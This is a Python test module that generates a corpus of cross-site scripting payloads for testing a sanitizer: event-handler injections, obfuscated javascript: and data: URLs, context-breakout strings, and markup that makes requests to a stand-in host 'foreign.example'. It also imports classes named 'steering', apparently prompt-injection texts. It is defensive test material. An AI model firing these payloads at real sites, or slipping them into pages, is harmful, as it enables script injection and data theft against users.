"""Texts that run something, or steer something, where a text is taken for more than a text.

A small grammar (a class × what stands around it × what it does) and lists by hand. What executes
can be seen: it opens a dialog, sets a property of ``window`` or asks a foreign host. The order is
fixed, and each text comes once.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from functools import cache
from itertools import product
from pathlib import Path

from tests.hostile import markdown_tricks, markup_tricks, steering

FOREIGN = "foreign.example"

RUNS = ("alert(1)", "window.ran=1", f"fetch('//{FOREIGN}/f')", "alert`1`", "top['al'+'ert'](1)")
"""What a script does that was not meant to run."""

_EVENTS = (
    *(("img src=x", event) for event in ("onerror", "onError", "ONERROR", "onloadstart")),
    *(("svg", event) for event in ("onload", "onLoad", "onfocusin")),
    *(("body", event) for event in ("onload", "onpageshow", "onhashchange", "onresize")),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("a id=x tabindex=1", "onfocus"),
    ("div tabindex=0 autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source", "onerror"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("div style=animation:x", "onanimationstart"),
    ("div", "onmouseover"),
    ("p", "onpointerenter"),
    ("b", "onclick"),
    ("button popovertarget=x", "onclick"),
    ("xss contenteditable", "onbeforeinput"),
    ("image src=x", "onerror"),
    ("input type=image src=x", "onerror"),
    ("math", "onclick"),
    ("table background=x", "onload"),
)
_ATTRIBUTES = (
    "<{tag} {event}={run}>",
    '<{tag} {event}="{run}">',
    "<{tag}/{event}='{run}'/>",
    "<{tag}\n{event}\n=\n{run}>",
    "<{tag} x=`>` {event}={run}//",
    "<{tag} {event}={entities}>",
)

_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "javascript :", " javascript:", "java\tscript:"),
    *("java\nscript:", "java\r\nscript:", "javascript\t:", "\x01javascript:", "\x1fjavascript:"),
    *("&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&colon;"),
    *("java&Tab;script:", "java&NewLine;script:", "&#14;javascript:", "%6Aavascript:"),
    *("javascript%3A", "\u200bjavascript:", "\ufeffjavascript:", "javas\u00adcript:"),
    *("\u00a0javascript:", "ｊavascript:", "javascript\uff1a", "jav\\ascript:", "\\javascript:"),
    *("view-source:javascript:", "feed:javascript:", "jar:javascript:", "vbscript:"),
    *("livescript:", "mocha:", "data:text/html,", "data:text/html;base64,", "blob:", "x-y:"),
    *("data:image/svg+xml,", "DATA:text/html;charset=utf-7,", "file:///", "filesystem:", "ws:"),
)
_CARRIERS = (
    "{address}",
    "<{address}>",
    "[words]({address})",
    "[words](<{address}>)",
    "[words][w]\n\n[w]: {address}",
    '![words]({address} "title")',
    '<a href="{address}">words</a>',
    "<a href={address}>words",
    '<iframe src="{address}"></iframe>',
    '<form action="{address}"><button autofocus>words',
    '<object data="{address}"></object>',
    '<meta http-equiv=refresh content="0;url={address}">',
    '<svg><a xlink:href="{address}"><text y=20>words',
    '<base href="{address}">',
)
_BODIES = {
    "data:text/html;base64,": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,": "<script>alert(1)</script>",
    "data:image/svg+xml,": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
}

_FOREIGN_ADDRESSES = (
    f"//{FOREIGN}/a",
    f"\\\\{FOREIGN}\\a",
    f"/\\{FOREIGN}/a",
    f"\\/{FOREIGN}/a",
    f"/\t/{FOREIGN}/a",
    f"http:{FOREIGN}/a",
    f"https:///{FOREIGN}/a",
    f"https:\\\\{FOREIGN}/a",
    f"https://desk.example@{FOREIGN}/a",
    f"https://desk.example:pass@{FOREIGN}/a",
    f"https://desk.example\\@{FOREIGN}/a",
    f"ftp://{FOREIGN}/a",
    f"https://{FOREIGN}/a.js",
    f"https://{FOREIGN}%2f@desk.example/",
    f"https://desk.example&commat;{FOREIGN}/",
    f"https://xn--80ak6aa92e.example/{FOREIGN}",
)
_FETCHING = (
    "{address}",
    "![words]({address})",
    "[![words]({address})]({address})",
    "<img src={address}>",
    '<img srcset="{address} 1x">',
    "<script src={address}></script>",
    "<link rel=stylesheet href={address}>",
    "<video poster={address}>",
    "<style>@import '{address}';</style>",
    '<div style="background:url({address})">',
)

_OUT_OF = (
    *('">', "'>", "`>", '"', "' ", "-->", "--!>", "</title>", "</textarea>", "</style>"),
    *("</script>", "</noscript>", "</template>", "</code></pre>", "</svg>", "</math>", "]]>"),
    *(
        "?>",
        "</option></select>",
        "\n\n",
        ")",
        "](",
        '")',
        "|",
        "*/",
        "}",
        "}}",
        "%}",
        "\\",
        "\\\\",
    ),
    *(
        "\u2028",
        "`",
        "```\n",
        "\n---\n",
        "\x00",
        "&#34;&#62;",
        "\\u003e",
        "%22%3E",
        "<!--",
        "<![CDATA[",
    ),
)
_CORES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=alert(1)>",
    f"<img src=//{FOREIGN}/i>",
    "onfocus=alert(1) autofocus tabindex=1 x=",
    " onmouseover=alert(1) style=position:fixed;inset:0 ",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
)


def _events() -> Iterator[str]:
    entities = "".join(f"&#{ord(character)};" for character in RUNS[0])
    for number, ((tag, event), form) in enumerate(product(_EVENTS, _ATTRIBUTES)):
        yield form.format(tag=tag, event=event, run=RUNS[number % len(RUNS)], entities=entities)


def _addresses() -> Iterator[str]:
    for number, (scheme, carrier) in enumerate(product(_SCHEMES, _CARRIERS)):
        body = _BODIES.get(scheme, RUNS[number % 3])
        yield carrier.format(address=scheme + body)
    for address, carrier in product(_FOREIGN_ADDRESSES, _FETCHING):
        yield carrier.format(address=address)


def _breakouts() -> Iterator[str]:
    for out, core in product(_OUT_OF, _CORES):
        yield out + core


CLASSES: Mapping[str, tuple[str, ...]] = {
    "events": tuple(_events()),
    "addresses": tuple(_addresses()),
    "breakouts": tuple(_breakouts()),
    **markup_tricks.CLASSES,
    **markdown_tricks.CLASSES,
    **steering.CLASSES,
}
"""The texts by class."""


@cache
def payloads() -> tuple[str, ...]:
    """All texts, each once; classes take turns, so that any stretch has something of each."""
    rows = (dict.fromkeys(texts) for texts in CLASSES.values())
    ranked = ((number / len(row), text) for row in rows for number, text in enumerate(row))
    return tuple(dict.fromkeys(text for _, text in sorted(ranked, key=lambda pair: pair[0])))


def sample(count: int) -> tuple[str, ...]:
    """About so many texts, or all there are: of each class its share, and one at least."""
    if count >= len(payloads()):
        return payloads()
    found: list[str] = []
    for texts in CLASSES.values():
        most = max(1, round(count * len(texts) / len(payloads())))
        found += (texts[int(number * len(texts) / most)] for number in range(most))
    return tuple(dict.fromkeys(found))


def read_list(path: Path) -> tuple[str, ...]:
    """The texts of a file that has one JSON string a line; empty lines are passed over.

    Raises:
        ValueError: a line is no JSON string; the message names it.
    """
    found = []
    for number, line in enumerate(path.read_text(encoding="utf-8-sig").split("\n"), 1):
        if not line.strip():
            continue
        try:
            value = json.loads(line)
        except ValueError as error:
            raise ValueError(f"{path}:{number}: this line is not JSON: {error}.") from error
        if not isinstance(value, str):
            raise ValueError(f"{path}:{number}: this line is JSON, but not a string.")  # noqa: TRY004 - one exception for one message
        found.append(value.encode("utf-8", "replace").decode())
    return tuple(dict.fromkeys(found))
